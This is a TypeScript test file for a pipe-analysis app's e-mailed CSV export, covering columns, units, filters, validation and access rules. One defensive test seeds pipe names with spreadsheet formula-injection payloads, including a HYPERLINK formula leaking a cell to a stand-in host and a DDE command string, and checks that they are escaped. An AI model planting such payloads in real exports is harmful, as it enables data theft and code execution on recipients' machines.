// Export by e-mail (spec 000 §7; EXP-02..05) on both backends: the request is checked and queued (202 with the
// recipient), the queued job builds the CSV without the hidden ids, with the columns the subscriptions open, and
// mails it; without SMTP the file is kept in the outbox beside the mail.
import { readFile } from 'node:fs/promises';
import Papa from 'papaparse';
import path from 'node:path';
import { sql } from 'drizzle-orm';
import type PgBoss from 'pg-boss';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { SUBSCRIPTIONS } from '@pipewise/domain';
import { withSystem } from '../src/db/database.ts';
import { createBoss } from '../src/jobs/boss.ts';
import { EXPORT_QUEUE, runEmailExport, type ExportJobData } from '../src/modules/exports/export.job.ts';
import { startWorker } from '../src/worker.ts';
import { buildAnalysisFixture, type AnalysisFixture } from './helpers/analysis-fixture.ts';
import { forEachBackend, GUEST, JP_ADMIN, VIEWER, type Harness } from './helpers/harness.ts';

const setSubscriptions = (h: Harness, subs: readonly string[]) =>
  withSystem(h.database.db, (tx) =>
    tx.execute(sql`UPDATE clients SET subscriptions = ${`{${subs.join(',')}}`}::text[] WHERE id = 1`),
  );

/** The CSV of a mail in the outbox: rows of cells, BOM stripped. */
async function attachmentOf(h: Harness, to: string) {
  const mail = (await h.outbox()).filter((m) => m.to === to).at(-1)!;
  const [file] = mail.attachments!;
  const text = await readFile(path.join(h.config.dataDir, 'outbox', file!.path), 'utf8');
  expect(text.startsWith('\uFEFF')).toBe(true);
  const [header, ...rows] = text
    .slice(1)
    .trimEnd()
    .split('\r\n')
    .map((l) => l.split(','));
  return {
    mail,
    file: file!,
    header: header!,
    rows,
    records: rows.map((r) => Object.fromEntries(header!.map((k, i) => [k, r[i]]))),
  };
}

forEachBackend('export by e-mail', (h) => {
  let us: AnalysisFixture;
  let bare: AnalysisFixture;
  let jp: AnalysisFixture;
  let boss: PgBoss;
  const post = async (f: AnalysisFixture, query: string, body: unknown, email = VIEWER) =>
    h.request({
      method: 'POST',
      url: `/api/datasets/${f.datasetId}/exports/email?${query}`,
      token: await h.token(email),
      body,
    });
  /** Runs the job the last request queued, as the worker would. */
  const runQueued = async () => {
    const [job] = await boss.fetch<ExportJobData>(EXPORT_QUEUE, { ignoreStartAfter: true });
    expect(job).toBeDefined();
    expect(await runEmailExport(h.database, h.deps.mailer, job!.data)).toBe(true);
    await boss.complete(EXPORT_QUEUE, job!.id);
    return job!.data;
  };

  beforeAll(async () => {
    us = await buildAnalysisFixture(h.database.db, { clientId: 1 });
    bare = await buildAnalysisFixture(h.database.db, { clientId: 1, name: 'Bare', analysis: false });
    jp = await buildAnalysisFixture(h.database.db, { clientId: 2 });
    await withSystem(h.database.db, (tx) =>
      tx.execute(sql`UPDATE pipes SET address = 'Elm St, "North"' WHERE id = ${us.pipes['P10']!}`),
    );
    boss = createBoss(h.database, { supervise: false, schedule: false });
    await boss.start();
  });
  afterAll(async () => boss?.stop({ graceful: false, close: false, wait: true }));

  // Issue 37: names a utility's file brings (native ids, addresses) come out of every CSV as text, never a formula.
  it('writes imported names that look like formulas as text, in the pipes and the segments files', async () => {
    const hostile = ['=HYPERLINK("http://evil.example/?leak="&A1,"open")', '+1+1', '@SUM(1,1)', '＝1+1'];
    const ids = ['P1', 'P2', 'P10', 'Q1'].map((p) => us.pipes[p]!);
    const before = await withSystem(h.database.db, (tx) =>
      tx.execute<{ id: number; native_pipe_id: string; address: string | null }>(
        sql`SELECT id, native_pipe_id, address FROM pipes WHERE id = ANY(${`{${ids.join(',')}}`}::int[])`,
      ),
    );
    await withSystem(h.database.db, async (tx) => {
      for (const [i, id] of ids.entries()) {
        await tx.execute(
          sql`UPDATE pipes SET native_pipe_id = ${hostile[i]!}, address = ${"=cmd|' /C calc'!A0"} WHERE id = ${id}`,
        );
      }
    });
    try {
      for (const type of ['lof', 'vis']) {
        expect((await post(us, `extension=csv&type=${type}`, { hidden_ids: [] })).statusCode).toBe(202);
        await runQueued();
        const mail = (await h.outbox()).filter((m) => m.to === VIEWER).at(-1)!;
        const text = await readFile(
          path.join(h.config.dataDir, 'outbox', mail.attachments![0]!.path),
          'utf8',
        );
        const fields = Papa.parse<string[]>(text.slice(1).trimEnd()).data.flat();
        const live = fields.filter(
          (f) => /^[=+\-@\t\r＝＋－＠]/.test(f) && !/^[+-]?[\d.]+(e[+-]?\d+)?%?$/i.test(f),
        );
        expect(live, type).toEqual([]);
        if (type === 'lof') for (const name of hostile) expect(fields).toContain(`'${name}`);
      }
    } finally {
      await withSystem(h.database.db, async (tx) => {
        for (const row of before.rows) {
          await tx.execute(
            sql`UPDATE pipes SET native_pipe_id = ${row.native_pipe_id}, address = ${row.address} WHERE id = ${row.id}`,
          );
        }
      });
    }
  });

  it('queues a pipes export and answers 202 with the recipient (EXP-02, 05)', async () => {
    const res = await post(us, 'extension=csv&type=lof', { hidden_ids: [us.pipes['P2']] });
    expect(res.statusCode, res.body).toBe(202);
    expect(res.json()).toEqual({ email: VIEWER });
    const data = await runQueued();
    expect(data).toMatchObject({ datasetId: us.datasetId, type: 'lof', hiddenIds: [us.pipes['P2']] });

    const { mail, file, header, records } = await attachmentOf(h, VIEWER);
    expect(mail.subject).toContain('Fixture mains');
    expect(file).toMatchObject({ content_type: 'text/csv; charset=utf-8' });
    expect(file.filename).toMatch(new RegExp(`^pipewise-lof-${us.datasetId}-\\d{4}-\\d{2}-\\d{2}\\.csv$`));
    expect(header).toEqual([
      'id',
      'native_pipe_id',
      'address',
      // The US viewer's own units (issue 15: the file was metric whatever the user's units).
      'length_ft',
      'diameter_in',
      'install_year',
      'material',
      'install_year_status',
      'diameter_status',
      'material_status',
      'lof_12',
      'lof_24',
      'lof_36',
      'lof_60',
      'rank_12',
      'rul',
      'cof_total',
      'bre',
    ]);
    // Every pipe but the hidden one, by id (the quoted address of P10 is checked on the raw text below).
    expect(records.map((r) => r['native_pipe_id'])).toEqual(['P1', 'P10', 'Q1']);
    expect(records[0]).toMatchObject({
      id: String(us.pipes['P1']),
      address: '1 Main St',
      length_ft: '288.71',
      diameter_in: '5.91',
      install_year: '1970',
      material: 'CAS',
      install_year_status: '0',
      lof_12: expect.stringMatching(/^0\.1/),
      rank_12: expect.stringMatching(/^10/),
      rul: '42',
      cof_total: '1000',
    });
    const text = await readFile(path.join(h.config.dataDir, 'outbox', file.path), 'utf8');
    expect(text).toContain(`${us.pipes['P10']},P10,"Elm St, ""North""",298.56,7.87,1990,DIP`);
    expect(text).not.toContain(',P2,');
  });

  it('exports the imputed values with their status, and leaves out hidden figures as columns', async () => {
    await setSubscriptions(h, ['LOF']);
    try {
      expect((await post(us, 'extension=csv&type=lof', { hidden_ids: [] })).statusCode).toBe(202);
      await runQueued();
      const { header, records } = await attachmentOf(h, VIEWER);
      for (const hidden of ['rul', 'cof_total', 'bre']) expect(header).not.toContain(hidden);
      expect(header).toContain('lof_60');
      // P2: diameter and install year imputed by the analysis (status 1).
      expect(records.find((r) => r['native_pipe_id'] === 'P2')).toMatchObject({
        install_year: '1965',
        install_year_status: '1',
        diameter_in: '3.94',
        diameter_status: '1',
        material: 'PVC',
      });
      await setSubscriptions(h, ['COF']);
      expect((await post(us, 'extension=csv&type=lof', { hidden_ids: [] })).statusCode).toBe(202);
      await runQueued();
      // COF without BRE: cof_total shows, the restricted BRE does not; no LOF at all.
      const cof = await attachmentOf(h, VIEWER);
      expect(cof.header.slice(10)).toEqual(['cof_total']);
    } finally {
      await setSubscriptions(h, SUBSCRIPTIONS);
    }
  });

  it("writes lengths and diameters in the user's own units: metric for a metric user (issue 15)", async () => {
    const metric = { segment: 'm', diameter: 'mm', segment_large: 'km' };
    const setUnits = (units: unknown) =>
      withSystem(h.database.db, (tx) =>
        tx.execute(sql`UPDATE users SET units = ${units === null ? null : JSON.stringify(units)}::jsonb
          WHERE email = ${VIEWER}`),
      );
    await setUnits(metric);
    try {
      expect((await post(us, 'extension=csv&type=lof', { hidden_ids: [] })).statusCode).toBe(202);
      await runQueued();
      const { header, records } = await attachmentOf(h, VIEWER);
      expect(header.slice(3, 5)).toEqual(['length_m', 'diameter_mm']);
      expect(records[0]).toMatchObject({ native_pipe_id: 'P1', length_m: '88', diameter_mm: '150' });
    } finally {
      await setUnits(null);
    }
  });

  it('exports the served VIS segments but the hidden ones (EXP-03)', async () => {
    const res = await post(us, 'extension=csv&type=vis', { hidden_ids: [1] });
    expect(res.statusCode, res.body).toBe(202);
    await runQueued();
    const { header, records, file } = await attachmentOf(h, VIEWER);
    expect(file.filename).toMatch(/^pipewise-vis-/);
    expect(header).toEqual([
      'segment_id',
      'pipes',
      'valves',
      'length_ft',
      'install_year',
      'breaks',
      'lof_12',
      'lof_24',
      'lof_36',
      'lof_60',
      'population',
    ]);
    expect(records).toEqual([
      {
        segment_id: '0',
        pipes: '2',
        valves: '2',
        length_ft: '583.99',
        install_year: '1970',
        breaks: '3',
        lof_12: '0.37',
        lof_24: '',
        lof_36: '',
        lof_60: '0.8',
        population: '230',
      },
    ]);
  });

  it('answers 404 NO_VIS_SEGMENTS for VIS without a served analysis, 403 without VIS', async () => {
    const none = await post(bare, 'extension=csv&type=vis', { hidden_ids: [] });
    expect(none.statusCode).toBe(404);
    expect(none.json()).toMatchObject({ status: 404, code: 'NO_VIS_SEGMENTS' });
    // A pipes export needs no analysis: the attributes are there.
    expect((await post(bare, 'extension=csv&type=lof', { hidden_ids: [] })).statusCode).toBe(202);
    await runQueued();
    const jpVis = await post(jp, 'extension=csv&type=vis', { hidden_ids: [] }, JP_ADMIN);
    expect(jpVis.statusCode).toBe(403);
  });

  it('leaves out every pipe the map filter rejects, not only the ids sent (EXP-04 reading)', async () => {
    // The web's install-year range 1960–1995 (apps/web/src/map/expressions.ts filterExpression).
    const year = ['get', 'install_year'];
    const filter = [
      'all',
      ['!=', year, null],
      ['>=', ['to-number', year], 1960],
      ['<=', ['to-number', year], 1995],
    ];
    const res = await post(us, 'extension=csv&type=lof', { hidden_ids: [], filter });
    expect(res.statusCode, res.body).toBe(202);
    await runQueued();
    // P2 has no install year (the map hides it too), Q1 is 2001: P1 (1970) and P10 (1990) stay.
    expect((await attachmentOf(h, VIEWER)).records.map((r) => r['native_pipe_id'])).toEqual(['P1', 'P10']);
    // The ids sent are left out as well.
    await post(us, 'extension=csv&type=lof', { hidden_ids: [us.pipes['P10']], filter });
    await runQueued();
    expect((await attachmentOf(h, VIEWER)).records.map((r) => r['native_pipe_id'])).toEqual(['P1']);
    // The VIS layer's own properties: segment 1 only.
    await post(us, 'extension=csv&type=vis', { hidden_ids: [], filter: ['==', ['get', 'segment_id'], 1] });
    await runQueued();
    expect((await attachmentOf(h, VIEWER)).records.map((r) => r['segment_id'])).toEqual(['1']);
  });

  it('answers 400 naming filter for an expression the map could not evaluate', async () => {
    for (const filter of [['nonsense', 1], ['within', { type: 'Point' }], ['get']]) {
      const res = await post(us, 'extension=csv&type=lof', { hidden_ids: [], filter });
      expect(res.statusCode, JSON.stringify(filter)).toBe(400);
      expect(res.json()).toMatchObject({
        code: 'VALIDATION',
        fields: [{ field: 'filter', rule: 'expression' }],
      });
    }
    expect(await boss.fetch(EXPORT_QUEUE, { ignoreStartAfter: true })).toEqual([]);
  });

  it('answers 400 naming the field for an unknown type or extension and a bad body', async () => {
    const fields = async (query: string, body: unknown) => {
      const res = await post(us, query, body);
      expect(res.statusCode).toBe(400);
      return (res.json().fields as { field: string }[]).map((f) => f.field);
    };
    expect(await fields('extension=xlsx&type=lof', { hidden_ids: [] })).toEqual(['extension']);
    expect(await fields('extension=csv&type=mesh', { hidden_ids: [] })).toEqual(['type']);
    expect(await fields('type=lof', { hidden_ids: [] })).toEqual(['extension']);
    expect(await fields('extension=csv&type=lof', {})).toEqual(['hidden_ids']);
    expect(await fields('extension=csv&type=lof', { hidden_ids: ['x'] })).toEqual(['hidden_ids.0']);
  });

  it("answers 401 without a token, 404 for another client's dataset, 403 for the demo account", async () => {
    const url = `/api/datasets/${us.datasetId}/exports/email?extension=csv&type=lof`;
    expect((await h.request({ method: 'POST', url, body: { hidden_ids: [] } })).statusCode).toBe(401);
    expect((await post(jp, 'extension=csv&type=lof', { hidden_ids: [] })).statusCode).toBe(404);
    const demo = await post(us, 'extension=csv&type=lof', { hidden_ids: [] }, GUEST);
    expect(demo.statusCode).toBe(403);
    expect(demo.json().code).toBe('DEMO_READ_ONLY');
    expect(await boss.fetch(EXPORT_QUEUE, { ignoreStartAfter: true })).toEqual([]);
  });

  it('is mailed by the worker', async () => {
    const worker = await startWorker(h.database, h.app.log, undefined, h.deps.mailer);
    try {
      const before = (await h.outbox()).length;
      expect((await post(us, 'extension=csv&type=lof', { hidden_ids: [] })).statusCode).toBe(202);
      await expect.poll(async () => (await h.outbox()).length, { timeout: 20_000 }).toBe(before + 1);
    } finally {
      await worker.stop();
    }
  });
});
